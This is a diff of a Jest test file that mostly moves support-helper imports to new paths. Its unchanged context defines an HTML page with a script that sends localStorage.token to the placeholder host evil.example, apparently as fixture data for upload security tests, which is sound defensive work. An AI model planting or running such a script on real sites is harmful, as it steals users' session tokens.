@@ -1,10 +1,10 @@
 import { deflateSync } from "node:zlib";
 import { expect, test } from "@jest/globals";
 import { db } from "@/lib/server/db/client";
-import { type Person, signUp } from "../support/api";
-import { fetchFile, post, upload } from "../support/files";
-import { pdf } from "../support/pdf";
-import { drawing, photo, withChunks, withSegments } from "../support/pictures";
+import { type Person, signUp } from "../support/api/client";
+import { fetchFile, post, upload } from "../support/api/files";
+import { drawing, photo, withChunks, withSegments } from "../support/factories/images";
+import { pdf } from "../support/factories/pdf";
 
 const script = "<script>fetch('https://evil.example/'+localStorage.token)</script>";
 const page = `<!doctype html><html><body>${script}</body></html>`;
